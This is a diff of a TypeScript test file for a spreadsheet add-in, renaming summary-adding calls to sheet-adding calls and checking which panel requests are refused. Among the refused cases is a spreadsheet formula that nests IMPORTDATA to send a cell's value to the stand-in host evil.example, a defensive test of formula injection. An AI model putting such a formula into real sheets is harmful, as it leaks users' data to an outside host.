@@ -1,6 +1,6 @@
 import type { PanelAnswer } from '../../shared/ports';
 import { HEAD, HOLDER, KEY, PRICES, readClosed, SPENT, useFileOfOwner } from './file-of-owner';
-import { STEALING, toInsertion, toSummary, toWriting } from './sent-messages';
+import { STEALING, toInsertion, toNewSheet, toWriting } from './sent-messages';
 import { world } from './spreadsheet';
 
 /** What an editor's page can do with the messages of enrichments in another user's file. */
@@ -44,8 +44,8 @@ it('a formula of Trace is entered where the panel enters it', () => {
 });
 
 it('a summary is added as a sheet of its own, also where it is called like one that is there', () => {
-  const added = [toSummary('Prices', 'Company 1'), toSummary('Trace record', 'Company 1')].map((summary) =>
-    ask('bulkSummary', summary),
+  const added = [toNewSheet('Prices', 'Company 1'), toNewSheet('Trace record', 'Company 1')].map((sheet) =>
+    ask('bulkAddSheet', sheet),
   );
   expect(added).toEqual([
     withValue({ sheet: idOf('Prices 2'), name: 'Prices 2', withoutChart: null }),
@@ -101,10 +101,10 @@ const REFUSED: readonly (readonly [string, () => PanelAnswer<unknown>, object])[
     () => ask('bulkInsert', toInsertion({ sheet: PRICES, row: 5, typed: 'Company 1' })),
     withCode('cellsProtected'),
   ],
-  ['a summary with a formula', () => ask('bulkSummary', toSummary('Trace name', STEALING)), MALFORMED],
+  ['a sheet with a formula', () => ask('bulkAddSheet', toNewSheet('Trace name', STEALING)), MALFORMED],
   [
     'a summary whose formula of Trace holds another one',
-    () => ask('bulkSummary', toSummary('Trace name', '=TRACE_COMPANY(IMPORTDATA("https://evil.example/?"&H2))')),
+    () => ask('bulkAddSheet', toNewSheet('Trace name', '=TRACE_COMPANY(IMPORTDATA("https://evil.example/?"&H2))')),
     MALFORMED,
   ],
   [
